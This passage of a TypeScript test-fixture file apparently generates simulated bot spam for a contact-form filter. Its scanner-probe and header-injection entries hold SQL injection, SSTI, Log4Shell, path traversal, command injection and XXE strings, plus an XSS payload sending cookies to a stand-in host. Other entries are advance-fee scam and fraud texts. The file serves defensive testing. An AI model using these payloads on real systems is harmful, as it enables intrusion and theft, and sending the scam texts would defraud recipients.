    from: ["Appointment Setters // meet@booked-calls.example"],
    subject: "<<20|30>> qualified calls a month - pay per show",
    message:
      "We book <<20|30>> qualified sales appointments onto your calendar every month using AI cold email. Pay only when they show up. We did it for 140 MSPs & security firms just like yours. Worth a 15 min chat? https://booked-calls.example/calendar",
  },
  {
    kind: "lead-lists",
    times: 2,
    as: "rf",
    from: ["Scraper Tool // hi@scrape-all.example"],
    subject: "Scrape unlimited leads",
    message:
      "Stop paying for leads. Our software scrapes unlimited <<emails and phones from maps|profiles from professional networks>> and sends them automatically. Lifetime deal $<<37|67>>, today only. Includes contact form blaster with captcha bypass. scrape-all.example",
  },
  {
    kind: "lead-lists",
    times: 3,
    as: "xrq",
    from: ["SMTP & Leads Shop // shop@smtp-shop.invalid"],
    subject: "SMTP, cPanel, RDP, fresh leads",
    message:
      "We sell: inbox SMTP, webmail logs, cPanel, RDP, shells, <<office mail|bank|corporate>> leads, combo lists <<10M|25M|40M>>, mailer 3.0, 2FA bypass pages. Free test before buy. https://smtp-shop.invalid  ICQ-like: 7000<<11|12|13>>",
  },
];

const followers: Base[] = [
  {
    kind: "followers",
    times: 3,
    as: "rfs",
    from: ["Social Boost // boost@followers-farm.example"],
    subject: "<<1,000|5,000|10,000>> followers for $<<4.99|19|29>>",
    message:
      "Get <<1,000|5,000|10,000>> real followers on your IG/short-video page for just $<<4.99|19|29>>. Instant delivery, no password needed, lifetime refill. Likes, views & comments also available. https://followers-farm.example/buy",
  },
  {
    kind: "followers",
    times: 3,
    as: "rtr",
    from: ["SMM Panel ID // cs@panel-smm.example", "Admin SMM // admin@panel-smm.example"],
    subject: "SMM panel termurah <<followers|views|subscriber>>",
    message:
      "Jual <<followers aktif|views reels|subscriber jam tayang>> termurah se-Indonesia mulai Rp <<2.000|1.500|5.000>> per 1K, garansi 30 hari, proses otomatis 24 jam. Terima reseller & API. Daftar gratis panel-smm.example bonus saldo 10rb",
  },
  {
    kind: "followers",
    times: 2,
    as: "xf",
    from: ["Review Ranger // reviews@five-stars.example"],
    subject: "Buy 5-star reviews",
    message:
      "<<20|50>> permanent 5 star map reviews from aged local accounts, $<<6|4>> each. Remove bad reviews of your company too, pay after removal. Sample: https://five-stars.example/samples",
  },
  {
    kind: "followers",
    times: 2,
    as: "qr",
    from: ["Blue Tick Agent // tick@verified-badge.example"],
    subject: "Get your brand verified",
    message:
      "Get the blue badge on all your social media within <<48|72>> hours + encyclopedia page + press features in <<30|50>> news sites. Guaranteed or refund. Payment crypto. verified-badge.example",
  },
  {
    kind: "followers",
    times: 2,
    as: "sr",
    from: ["Kerja Like Video // hr@like-job.example"],
    subject: "Lowongan kerja part time like video",
    message:
      "Lowongan part time online! Cukup like & subscribe video dapat Rp <<50.000|35.000>> per tugas, penghasilan Rp 500.000 - 3.000.000 per hari langsung cair, tanpa modal. Daftar: https://like-job.example/wa dan dapatkan bonus Rp 100.000 hari ini juga! Kuota 50 orang, usia 18+",
  },
];

const audits: Base[] = [
  {
    kind: "ranking-audit",
    times: 3,
    as: "rqt",
    from: ["Audit Desk // audit@rank-report.example", "Kelly Audit // kelly@rank-report.example"],
    subject: "Your <<website audit|ranking report|SEO score>>: <<34|41|28>>/100",
    message:
      "Your free report for nusagrid.example is ready.\n\nOverall score: <<34|41|28>>/100\nBacklinks: 12 (competitors: 3,400)\nSpeed: POOR\nMobile: POOR\nKeywords in top 10: 0\n\nUnlock the full report and the action plan: https://rank-report.example/r/nusagrid",
  },
  {
    kind: "ranking-audit",
    times: 3,
    as: "fxr",
    from: ["Toby Renn // toby@domain-checkup.example"],
    subject: "I ran a <<quick audit|scan|health check>> on nusagrid.example",
    message:
      'Hey there, I ran a <<quick audit|scan|health check>> on your site and found <<11|19|26>> things holding it back from page one — duplicate titles, toxic links, thin content. No obligation, just reply "SEND" and I will forward the PDF. (We normally charge $<<297|197|497>> for this.)',
  },
  {
    kind: "ranking-audit",
    times: 2,
    as: "rf",
    from: ["Toxic Links Alert // alert@toxic-link-alert.example"],
    subject: "WARNING: toxic backlinks detected",
    message:
      "Our monitoring detected <<184|97>> toxic backlinks pointing to nusagrid.example. Your domain risks a manual penalty. Order the disavow clean up ($<<69|89>>) today: https://toxic-link-alert.example/order",
  },
  {
    kind: "ranking-audit",
    times: 2,
    as: "qr",
    from: ["Security Researcher // bounty@beg-bounty.example"],
    subject: "Vulnerability found in your website - reward?",
    message:
      "Hello team, I am security researcher and I found a <<high severity missing DMARC|clickjacking>> vulnerability in your website. Kindly confirm that you have a bug bounty program and how much reward in <<dollars|crypto>> you pay so that I can share proof of concept. I have found more bugs also. Payment by crypto only.",
  },
  {
    kind: "ranking-audit",
    times: 2,
    as: "rs",
    from: ["Audit Website Gratis // audit@cek-ranking.example"],
    subject: "Hasil audit website Anda: BURUK",
    message:
      "Hasil audit SEO nusagrid.example: skor <<23|31>>/100 (BURUK). Kompetitor Anda sudah di halaman 1! Klaim audit GRATIS + jasa backlink diskon 70% di https://cek-ranking.example/klaim sebelum jam 24.00 hari ini. Beli 1000 backlink gratis 500 backlink, dijamin ranking 1!!!",
  },
  {
    kind: "ranking-audit",
    times: 2,
    as: "tr",
    from: ["Marta Speedwell // marta@fast-vitals.example"],
    subject: "Your core vitals are failing",
    message:
      "53% of visitors leave if a page takes more than 3 seconds. Yours takes <<6.8|5.9>>. We fix speed in 5 days for a flat fee of $<<149|179>>, score 90+ guaranteed. Before/after: https://fast-vitals.example/cases",
  },
];

const fraud: Base[] = [
  {
    kind: "inheritance-fraud",
    times: 3,
    as: "rfx",
    from: [
      "Barrister <<Edmund Okwori|Silas Adembe|Clement Tabor>> // barrister.<<edmund|silas|clement>>@chambers.test",
    ],
    subject: "<<Next of kin|Inheritance|Unclaimed estate>> USD <<10.5|18.7|25>> Million",
    message:
      "Dear Friend,\n\nI am Barrister <<Edmund Okwori|Silas Adembe|Clement Tabor>>, personal attorney to my late client who died with his entire family in a <<plane crash|car accident|flood>>, leaving behind a deposit of USD <<10.5|18.7|25>> Million in a security company. I need your consent to present you as the next of kin. You will receive 40%. This transaction is 100% risk free and legitimate. Reply with your full name, address and telephone in strict confidence.",
  },
  {
    kind: "inheritance-fraud",
    times: 3,
    as: "rqs",
    from: ["Mrs. <<Agatha Wren|Ruth Coleby|Miriam Hass>> // mrs.widow@charity-will.test"],
    subject: "My dear in the Lord",
    message:
      "Greetings in the name of God. I am Mrs. <<Agatha Wren|Ruth Coleby|Miriam Hass>>, a widow suffering from <<esophageal cancer|long time cancer of the breast>>. My doctor says I have <<two|three>> months to live. I want to donate my inheritance of $<<4.8|7.2|11>> million to the less privileged through you. Contact my lawyer urgently to claim the fund, you keep 30% for yourself. Remain blessed.",
  },
  {
    kind: "inheritance-fraud",
    times: 2,
    as: "rt",
    from: ["Col. Harlan Pike // col.pike@peace-mission.test"],
    subject: "Business proposal from a soldier",
    message:
      "I am an army officer on peacekeeping in <<Syria|Yemen>>. We discovered two metal boxes with US$<<8.2|15.6>>M. I need a trustworthy partner in your country to receive them through diplomatic courier. Send me your WhatsApp number for more details, keep this top secret.",
  },
  {
    kind: "inheritance-fraud",
    times: 2,
    as: "fr",
    from: ["Compensation Office // fund@un-compensation.test"],
    subject: "ATM card compensation payment",
    message:
      "Your compensation fund of $<<850,000|1,500,000>> has been approved and loaded on an ATM card. Pay only the delivery fee of $<<185|120>> to our agent Mr. Festus to receive it by courier within 2 days. Your code: ATM/0<<22|47>>.",
  },
  {
    kind: "inheritance-fraud",
    times: 2,
    as: "xr",
    from: ["Dr. Liang Weho // liang.weho@oil-deal.test"],
    subject: "Supply of <<raw material|animal vaccine oil>> - 50/50",
    message:
      "I work as assistant research officer in a biopharmaceutical firm in London. There is a <<seed extract|vaccine oil>> we buy for $4,500 per carton whereas the farmer in your country sells at $1,750. I need an honest middleman; we share profit 50/50. No capital risk, I will tell you what to do. Reply to my private mail.",
  },
  {
    kind: "inheritance-fraud",
    times: 2,
    as: "qr",
    from: ["Government Tender Board // tender@ministry-bids.test"],
    subject: "Contract award: supply of <<laptops|servers>> to ministry",
    message:
      "Compliment of the season. Your company has been recommended as foreign supplier of <<5,000 laptops|300 servers>> worth USD <<12|46>> Million to our Ministry of Special Projects. Payment 100% in advance by T/T. You are only required to pay the registration & bid processing fee of $<<2,450|3,900>>. Treat as urgent.",
  },
  {
    kind: "inheritance-fraud",
    times: 2,
    as: "rf",
    from: ["Pewaris Amanah // amanah@dana-warisan.test"],
    subject: "Hibah dana warisan",
    message:
      "Assalamualaikum, saya janda almarhum pengusaha minyak. Saya sakit keras dan ingin menghibahkan dana <<2,5|7>> juta dolar untuk anak yatim lewat Anda. Anda mendapat 35%. Mohon kirim nama lengkap, KTP dan nomor rekening untuk proses transfer, biaya notaris ditanggung penerima <<3|5>> juta rupiah. Ini rahasia.",
  },
];

const domains: Base[] = [
  {
    kind: "domain-renewal",
    times: 3,
    as: "rfr",
    from: ["Domain Services // renew@domain-register.example", "DN Notice // dn@domain-register.example"],
    subject: "<<FINAL NOTICE|Expiration notice|Termination>>: nusagrid.example",
    message:
      "Attention: domain nusagrid.example\n\nThis is your <<final|second|last>> notice. Your domain search engine registration EXPIRES <<today|tomorrow|in 24 hours>>. Failure to complete by the expiration date may result in the cancellation of this offer making it difficult for your customers to locate you.\n\nSecure payment: https://domain-register.example/pay?d=nusagrid.example\nPeriod 1 year $<<86.00|75.00|64.00>>",
  },
  {
    kind: "domain-renewal",
    times: 3,
    as: "rqx",
    from: ["Asia Domain Registry // jim@asia-dn-registry.example"],
    subject: '"nusagrid" <<brand name|CN domain|internet keyword>> dispute',
    message:
      '(Please forward this to your CEO, because this is urgent.)\n\nDear CEO, this is a formal email. We are the domain registration centre in Shanghai. On <<11 March|4 June|19 November>> we received an application from <<Hua Ke Ltd|Bao Lin Ltd|Tian Yu Ltd>> requesting "nusagrid" as their internet keyword and domain names (.cn .asia .hk). Do you authorize them? If not, we can register them for you first. Waiting for your reply.',
  },
  {
    kind: "domain-renewal",
    times: 2,
    as: "tf",
    from: ["Premium Domains // broker@premium-names.example"],
    subject: "nusagrid-<<cloud|it>>.example is for sale",
    message:
      "The domain nusagrid-<<cloud|it>>.example will be dropped and auctioned on Friday. As you own a similar name we offer it to you first at $<<397|290>>. If a competitor buys it you may lose traffic. Bid: https://premium-names.example/auction",
  },
  {
    kind: "domain-renewal",
    times: 2,
    as: "rr",
    from: ["Tagihan Domain // billing@perpanjang-domain.example"],
    subject: "Tagihan perpanjangan domain & SSL",
    message:
      "Domain nusagrid.example dan SSL Anda akan dinonaktifkan besok karena belum dibayar. Total tagihan Rp <<1.250.000|985.000>>. Segera transfer ke VA 8800-0000-<<1122|3344>> atau bayar di https://perpanjang-domain.example/inv agar website tidak hilang.",
  },
];

const ai: Base[] = [
  {
    kind: "ai-sales",
    times: 3,
    as: "rqf",
    from: ["Chatbot Genie // hello@bot-genie.example", "Tess from BotGenie // tess@bot-genie.example"],
    subject: "An AI <<chatbot|receptionist|agent>> trained on nusagrid.example",
    message:
      "Hi!\n\nI already built an AI <<chatbot|receptionist|agent>> trained on your website. It answers customers 24/7 in <<95|50|120>> languages and books meetings while you sleep. Try your demo here (live for 48h): https://bot-genie.example/demo/nusagrid\n\nLifetime access for $<<47|67|97>> instead of $997 - ends Sunday.\n\nIf you wish to opt out fill the form: https://bot-genie.example/optout",
  },
  {
    kind: "ai-sales",
    times: 3,
    as: "rxt",
    from: ["Content Rocket // team@content-rocket.example"],
    subject: "<<300|500|1,000>> AI articles per month on autopilot",
    message:
      "What if your blog published <<10|15|30>> SEO articles a day without hiring a writer? Our AI researches, writes, adds images, interlinks and posts automatically. Passes every AI detector. First month $1: https://content-rocket.example/start",
  },
  {
    kind: "ai-sales",
    times: 3,
    as: "frs",
    from: ["Voice AI Closer // sales@voice-closer.example"],
    subject: "AI that <<calls|texts|emails>> all of your leads",
    message:
      "Our voice AI makes <<10,000|5,000|20,000>> cold calls per hour, sounds 100% human and closes deals for $0.07/min. STOP paying lazy salespeople!!! Get the free training + <<3 bonuses|5 bonuses>> (value $2,997) now at https://voice-closer.example/webinar - only <<14|9|22>> seats left. 100% money back guarantee, make $30k/month as reseller, no experience needed!",
  },
  {
    kind: "ai-sales",
    times: 2,
    as: "qr",
    from: ["Avatar Video // avatars@talking-avatar.example"],
    subject: "Replace your video team",
    message:
      "Create unlimited talking avatar videos in <<140|80>> languages with one click. One-time fee $<<39|29>>, commercial rights included. 4,112 marketers joined this week. Demo reel: https://talking-avatar.example",
  },
  {
    kind: "ai-sales",
    times: 3,
    as: "rfr",
    from: ["WA Blast AI // cs@wa-blast.example", "Chatbot WA Murah // promo@wa-blast.example"],
    subject: "Jasa <<WA blast|chatbot AI|bot auto reply>> murah",
    message:
      "Tingkatkan omset 10x lipat dengan <<WA blast anti banned|chatbot AI|bot auto reply>>! Kirim <<10.000|50.000|100.000>> pesan per hari, balas otomatis 24 jam, gratis 100 ribu database nomor aktif. Mulai <<99|149|199>>rb/bulan. Demo: https://wa-blast.example klik sekarang",
  },
  {
    kind: "ai-sales",
    times: 3,
    as: "trs",
    from: ["Prompt Vault // vault@prompt-vault.example"],
    subject: "10,000 prompts that print money",
    message:
      "Grab the mega bundle: 10,000+ AI prompts, <<300|450>> automation templates, resell rights. Normally $499, today $<<9|14|19>>. People make $5k a week reselling it. https://prompt-vault.example/bundle",
  },
];

const headerInjection: Base[] = [
  {
    kind: "header-injection",
    times: 2,
    as: "rx",
    from: ["probe // probe@scan.test\r\nBcc: <<relay1|relay2>>@open-relay.test"],
    subject: "test <<100|101>>",
    message: "to=<<relay1|relay2>>@open-relay.test",
  },
  {
    kind: "header-injection",
    times: 2,
    as: "rr",
    from: ["Visitor // visitor@scan.test"],
    subject: "Hello\r\nBcc: <<victim|list>>@open-relay.test\r\nContent-Type: text/html",
    message: '<html><body><a href="http://open-relay.test/<<a|b>>">click</a></body></html>',
  },
  {
    kind: "header-injection",
    times: 2,
    as: "rf",
    from: ["x%0ACc:<<harvest|drop>>@open-relay.test // x@scan.test"],
    subject: "x%0D%0ABcc:%20<<harvest|drop>>@open-relay.test",
    message:
      'Content-Type: multipart/mixed; boundary="frontier"\r\nMIME-Version: 1.0\r\n\r\n--frontier\r\nContent-Type: text/plain\r\n\r\nspam relay <<1|2>>\r\n--frontier--',
  },
  {
    kind: "header-injection",
    times: 1,
    as: "x",
    from: ["a\nTo: everyone@open-relay.test // a@scan.test"],
    subject: "a\nX-Mailer: relay-check",
    message: "Received your relay check 55120",
  },
];

const scanners: Base[] = [
  {
    kind: "scanner-probe",
    times: 3,
    as: "rxr",
    from: ["' OR '1'='1 // sample<<1|2|3>>@scanner.test"],
    subject: "1' AND <<SLEEP(5)|1=1|(SELECT 1 FROM dual)>>-- -",
    message: "1' UNION SELECT NULL,NULL,<<version()|user()|@@hostname>>-- -",
  },
  {
    kind: "scanner-probe",
    times: 3,
    as: "rfx",
    from: ["<script>alert(<<1|document.domain|9>>)</script> // xss<<1|2|3>>@scanner.test"],
    subject: '"><img src=x onerror=<<alert(1)|prompt(9)|confirm(document.cookie)>>>',
    message: "'\"><svg/onload=fetch('//oast.scanner.test/<<a1|b2|c3>>?c='+document.cookie)>",
  },
  {
    kind: "scanner-probe",
    times: 2,
    as: "rr",
    from: ["{{7*7}} // ssti@scanner.test"],
    subject: "${7*7}",
    message: "{{config.__class__.__init__.__globals__['os'].popen('<<id|whoami>>').read()}} <%= 7*7 %> #{7*7}",
  },
  {
    kind: "scanner-probe",
    times: 2,
    as: "xr",
    from: ["${jndi:ldap://oast.scanner.test/<<n|m>>} // log4@scanner.test"],
    subject: "${jndi:${lower:l}${lower:d}ap://oast.scanner.test/<<s|t>>}",
    message: "${jndi:rmi://oast.scanner.test:1099/<<obj|exp>>}",
  },
  {
    kind: "scanner-probe",
    times: 2,
    as: "rf",
    from: ["../../../../etc/passwd // lfi@scanner.test"],
    subject: "..%2f..%2f..%2f..%2f<<etc%2fpasswd|windows%2fwin.ini>>",
    message: "file:///<<etc/passwd|c:/windows/win.ini>>\u0000.jpg",
  },
  {
    kind: "scanner-probe",
    times: 2,
    as: "rx",
    from: ["$(<<sleep 10|curl oast.scanner.test>>) // cmd@scanner.test"],
    subject: ";nslookup oast.scanner.test;",
    message: "`<<ping -c 3 oast.scanner.test|wget http://oast.scanner.test/x>>` || <<sleep 10|id>> &",
  },
  {
    kind: "scanner-probe",
    times: 1,
    as: "r",
    from: ["acunetest // sample@email.test"],
    subject: '-1" OR 5*5=25 --',
    message:
      "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15)))v)+\"*/",
  },
  {
    kind: "scanner-probe",
    times: 1,
    as: "x",
    from: ["xxe // xxe@scanner.test"],
    subject: "xml",
    message: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://oast.scanner.test/x.dtd"> %x;]><r>&y;</r>',
  },
];

const tests: Base[] = [
  {
    kind: "test-probe",
    times: 2,
    as: "rx",
    from: ["test // test<<1|2>>@test.test"],
    subject: "test",
    message: "<<test|testing 123>>",
  },
  {
    kind: "test-probe",
    times: 2,
    as: "fr",
    from: ["asdf // asdf@<<asdf|qwer>>.test"],
    subject: "asdf",
    message: "<<asdf|asdfasdf>>",
  },
  { kind: "test-probe", times: 2, as: "rq", from: ["1 // 1@1.test"], subject: "<<1|111>>", message: "<<1|1 1 1>>" },
  { kind: "test-probe", times: 1, as: "r", from: ["admin // admin@localhost.test"], subject: "hello", message: "." },
  {
    kind: "test-probe",
    times: 1,
    as: "f",
    from: ["John Doe // john.doe@sample.test"],
    subject: "Lorem ipsum",
    message: "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
  },
  { kind: "test-probe", times: 1, as: "x", from: ["qwerty // qwe@qwe.test"], subject: "qwe", message: "qwerty 123456" },
  {
    kind: "test-probe",
    times: 1,
    as: "q",
    from: ["undefined // null@null.test"],
    subject: "undefined",
    message: "[object Object]",
  },
  {
    kind: "test-probe",
    times: 1,
    as: "t",
    from: ["ok // ok@ok.test"],
    subject: "ok",
    message: "check form delivery id 000000001",
  },
  {
    kind: "test-probe",
    times: 1,
    as: "r",
    from: ["Hello // hi@hi.test"],
    subject: "Hi",
    message: "Aloha, i write about your the price for reseller",
  },
];

const emojis: Base[] = [
  {
    kind: "emoji",
    times: 2,
    as: "rf",
    from: ["🔥<<Hot|Win>>🔥 // hot@emoji-win.example"],
    subject: "🎁🎁🎁 <<YOU WON|CONGRATS>> 🎁🎁🎁",
    message:
      "🎉🎉🎉 <<Phone 17 Pro Max|$1000 gift card>> 🎁 👉👉👉 https://emoji-win.example/🎁 👈👈👈 ⏰⏰ HURRY 💯💯🔥🔥🔥",
  },
  {
    kind: "emoji",
    times: 2,
    as: "rs",
    from: ["💋 <<Ayu|Sinta>> 💋 // ayu@vcs-room.example"],
    subject: "💦🍑 VCS <<murah|bisa request>> 🍑💦",
    message:
      "💋 hai sayang 😘 open VCS <<50rb|75rb>> 🍑💦 foto & video koleksi 🔞🔞 klik 👉 https://vcs-room.example/<<ayu|sinta>> 👈 bayar via QRIS 💸 langsung on cam 😈😈 slot gacor bonus 100% juga ada 🎰🎰",
  },
  {
    kind: "emoji",
    times: 2,
    as: "xs",
    from: ["🚀 Moon 🚀 // moon@to-the-moon.example"],
    subject: "🚀🚀🚀 <<100x|1000x>> 🚀🚀🚀",
    message: "💎🙌 <<100x|1000x>> gem 💎 🚀🌕 presale 🟢 LIVE 🟢 💰💰💰 to-the-moon.example 💰💰💰 🐶🐸📈📈📈",
  },
  {
    kind: "emoji",
    times: 2,
    as: "tr",
    from: ["🎰 Admin 🎰 // cs@jp-emoji.example"],
    subject: "🎰 JP <<hari ini|semalam>> 🎰",
    message:
      "🎰⚡️ MAXWIN ⚡️🎰\n✅ Depo <<10K|5K>>\n✅ WD kilat\n✅ Bonus harian\n💎 jp-emoji.example 💎\n🔥🔥🔥 GASSS 🔥🔥🔥",
  },
];

const placeholders: Base[] = [
  {
    kind: "unfilled-placeholders",
    times: 2,
    as: "rf",
    from: ["{{sender_name}} // outreach@mail-merge.example"],
    subject: "{{first_name}}, quick question about {{company}}",
    message:
      "Hi {{first_name}},\n\nI was impressed by what {{company}} is doing in {{industry}}. We help companies like yours get {{<<number|lead_count>>}} more <<leads|meetings>> every month. Would {{day}} work for a call?\n\nBest,\n{{sender_name}}",
  },
  {
    kind: "unfilled-placeholders",
    times: 2,
    as: "rq",
    from: ["[Your Name] // sales@ai-wrote-this.example"],
    subject: "Partnership with [Company]",
    message:
      "Dear [Company] Team,\n\nI hope this message finds you well. My name is [Your Name] and I represent [Your Company], a leading provider of <<SEO services|lead generation>>. We'd love to boost [Company]'s revenue by [X]%. Visit [Link].\n\nBest regards,\n[Your Name]\n[<<Phone|Title>>]",
  },
  {
    kind: "unfilled-placeholders",
    times: 2,
    as: "xr",
    from: ["%%FNAME%% %%LNAME%% // blast@form-blaster.example"],
    subject: "%%DOMAIN%% - <<offer|discount>>",
    message:
      "Hello %%FNAME%%, we visited %%DOMAIN%% and want to sell you <<backlinks|traffic>> at %%PRICE%%. Order: https://form-blaster.example/?d=%%DOMAIN%%",
  },
  {
    kind: "unfilled-placeholders",
    times: 2,
    as: "tr",
    from: ["{John|Mike|Steve} {Smith|Brown} // spin@spin-tax.example"],
    subject: "{Hello|Hi|Hey} {there|friend}",
    message:
      "{I|We} {found|visited|came across} your {site|website|web page} and {can|could} {help|assist} you {rank|grow} for {cheap|low price}. {Reply|Answer|Write back} {now|today} <<A|B>>.",
  },
  {
    kind: "unfilled-placeholders",
    times: 1,
    as: "f",
    from: ["Nama Pengirim // promo@wa-template.example"],
    subject: "Penawaran untuk <nama_perusahaan>",
    message:
      "Yth. Bapak/Ibu <nama_pic> di <nama_perusahaan>,\nKami dari <nama_agensi> menawarkan jasa digital marketing dengan diskon <persen>% khusus bulan <bulan>. Hubungi <no_wa>.",
  },
];

const lookalikes: Base[] = [
  {
    kind: "unicode-lookalike",
    times: 2,
    as: "rf",
    from: ["Ｓｌｏｔ Ｇａｃｏｒ // fw@fullwidth-slot.example"],
    subject: "Ｓｌｏｔ <<Ｇａｃｏｒ|Ｍａｘｗｉｎ>>",
    message:
      "Ｄａｆｔａｒ ｓｌｏｔ <<ｇａｃｏｒ|ｍａｘｗｉｎ>> ｓｅｋａｒａｎｇ ｂｏｎｕｓ １００％ → fullwidth-slot.example",
  },
  {
    kind: "unicode-lookalike",
    times: 2,
    as: "rx",
    from: ["𝗦𝗶𝘁𝘂𝘀 𝗥𝗲𝘀𝗺𝗶 // math@bold-math-slot.example"],
    subject: "𝗟𝗶𝗻𝗸 𝗔𝗹𝘁𝗲𝗿𝗻𝗮𝘁𝗶𝗳 <<𝟳𝟳|𝟴𝟴>>",
    message:
      "𝐒𝐢𝐭𝐮𝐬 𝐬𝐥𝐨𝐭 𝐨𝐧𝐥𝐢𝐧𝐞 𝐫𝐞𝐬𝐦𝐢 𝐩𝐚𝐥𝐢𝐧𝐠 𝐠𝐚𝐜𝐨𝐫, 𝘥𝘦𝘱𝘰𝘴𝘪𝘵 𝘱𝘶𝘭𝘴𝘢 𝘵𝘢𝘯𝘱𝘢 𝘱𝘰𝘵𝘰𝘯𝘨𝘢𝘯 <<𝟳𝟳|𝟴𝟴>> https://bold-math-slot.example",
  },
  {
    kind: "unicode-lookalike",
    times: 2,
    as: "qr",
    from: ["Сrурtо Ѕuрроrt // cyr@cyrillic-mix.example"],
    subject: "Yоur <<Вitсоin|Еthеrеum>> рауоut is rеаdу",
    message:
      "Сlаim уоur <<Вitсоin|Еthеrеum>> рауоut оf $<<9,400|6,120>> nоw, ассоunt wіll bе сlоsеd tоdау: https://cyrillic-mix.example/сlаim",
  },
  {
    kind: "unicode-lookalike",
    times: 2,
    as: "sf",
    from: ["P.i.n.j.o.l K1lat // p1nj@l33t-loan.example"],
    subject: "P1nj4m4n 0nl1ne <<c4ir|kil4t>>",
    message:
      "P.1.n.j.4.m.4.n 0nl1n3 t4np4 j4m1n4n c4ir <<5|10>> m3n1t!! s l o t  g a c o r  j u g a  a d a, d4ft4r di l33t-loan . example / <<cair|kilat>> W-A 08.00.00.00 v1agra c1alis m u r a h",
  },
];

const shortUrls: Base[] = [
  {
    kind: "short-url",
    times: 2,
    as: "rf",
    from: ["Info // info@short-mail.test"],
    subject: "penting",
    message: "Cek ini kak https://bit.example/<<3xYz9Qa|7kLm2Bn>>",
  },
  {
    kind: "short-url",
    times: 2,
    as: "xq",
    from: ["Amanda // amanda@short-mail.test"],
    subject: "is this you in the <<video|photo>>?",
    message: "OMG is this you in this <<video|photo>>?? everyone is laughing https://tinyurl.example/<<y8ab7z|m4mm0t>>",
  },
  {
    kind: "short-url",
    times: 2,
    as: "rr",
    from: ["Promo // promo@short-mail.test"],
    subject: "Diskon",
    message:
      "Voucher <<500rb|1jt>> gratis hari ini saja: s.id.example/<<voucher500|voucher1jt>> | bagikan ke 10 grup WA untuk klaim",
  },
  {
    kind: "short-url",
    times: 1,
    as: "t",
    from: ["Lucas // lucas@short-mail.test"],
    subject: "As discussed",
    message: "the file: https://cutt.example/QrTz https://t-co.example/a81k https://rebrand.example/ppx",
  },
];

const longLists: Base[] = [
  {
    kind: "long-link-list",
    times: 2,
    as: "rf",
    from: ["linkfarm // farm@link-farm.test"],
    subject: "<<links|sitemap>>",
    message: linkList(
      "link-farm<<1|2>>.test",
      ["casino", "poker", "slots", "loans", "pills", "crypto"],
      12,
      (url) => url,
    ),
  },
  {
    kind: "long-link-list",
    times: 2,
    as: "xr",
    from: ["bbfarm // bb@bb-farm.test"],
    subject: "partners <<A|B>>",
    message: linkList(
      "bb-farm<<1|2>>.test",
      ["slot-gacor", "togel", "judi-bola", "poker-online"],
      15,
      (url, slug) => `[url=${url}]${slug}[/url]`,
    ),
  },
  {
    kind: "long-link-list",
    times: 1,
    as: "r",
    from: ["htmlfarm // html@html-farm.test"],
    subject: "catalog",
    message: linkList(
      "html-farm.test",
      ["replica", "essay", "vpn", "keygen", "dating"],
      20,
      (url, slug) => `<a href="${url}">${slug}</a>`,
    ),
  },
];

const LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
const LOWER = "abcdefghijklmnopqrstuvwxyz0123456789";

/** Thirty submissions of the random-letter sort ("LaEGyuPkWdTZbv"), in six shapes. */
function gibberishSubmissions(): BotSubmission[] {
  const behaviours: BotBehaviour[] = [
    "raw",
    "fills-every-field",
    "headless-fast",
    "raw",
    "forged-token",
    "replays-token",
  ];
  return Array.from({ length: 30 }, (_unused, i): BotSubmission => {
    const word = (n: number, length: number) => gibberish(i * 31 + n, length, LETTERS);
    const name = word(1, 10 + (i % 8));
    const email = `${gibberish(i * 31 + 2, 9, LOWER)}@inbox-${(i % 5) + 1}.test`;
    const dotted = `${gibberish(i * 31 + 3, 12, LOWER)
      .split("")
      .join(".")
      .replace(/\.{2,}/g, ".")}@mail-drop.test`;
    const shapes: Omit<BotSubmission, "kind" | "behaviour">[] = [
      { name, email, subject: word(4, 14), message: word(5, 18) },
      { name: `${word(6, 6)} ${word(7, 8)}`, email: dotted, subject: word(8, 11), message: word(9, 22) },
      { name, email, subject: word(10, 9), message: `${word(11, 13)} ${word(12, 16)} ${word(13, 7)}` },
      {
        name: word(14, 20),
        email: dotted,
        subject: gibberish(i + 900, 10, LOWER),
        message: gibberish(i + 700, 40, LOWER),
      },
      { name, email, subject: name, message: name },
      {
        name: word(15, 8),
        email,
        subject: word(16, 12),
        message: `${word(17, 9)} https://${gibberish(i + 300, 8, LOWER)}.test/`,
      },
    ];
    const shape = shapes[i % shapes.length] as Omit<BotSubmission, "kind" | "behaviour">;
    return { kind: "gibberish", behaviour: behaviours[(i + Math.floor(i / 6)) % 6] ?? "raw", ...shape };
  });
}

const bases: Base[] = [
  ...seo,
  ...guestPosts,
  ...outsourcing,
  ...gambling,
  ...loans,
  ...crypto,
  ...pharmacy,
  ...phishing,
  ...linkDumps,
  ...foreign,
  ...copyrightLures,
  ...leads,
  ...followers,
  ...audits,
  ...fraud,
  ...domains,
  ...ai,
  ...headerInjection,
  ...scanners,
  ...tests,
  ...emojis,
  ...placeholders,
  ...lookalikes,
  ...shortUrls,
  ...longLists,
];

function submissionsOf(base: Base): BotSubmission[] {
  return Array.from({ length: base.times }, (_unused, i): BotSubmission => {
    const [name = "", email = ""] = (base.from[i % base.from.length] ?? "").split(" // ");
    return {
      kind: base.kind,
      behaviour: BEHAVIOURS[base.as[i % base.as.length] ?? "r"] ?? "raw",
      name: spin(name, i),
      email: spin(email, i),
      subject: spin(base.subject, i),
      message: spin(base.message, i),
    };
  });
}

export const botSubmissions: BotSubmission[] = [...bases.flatMap(submissionsOf), ...gibberishSubmissions()];
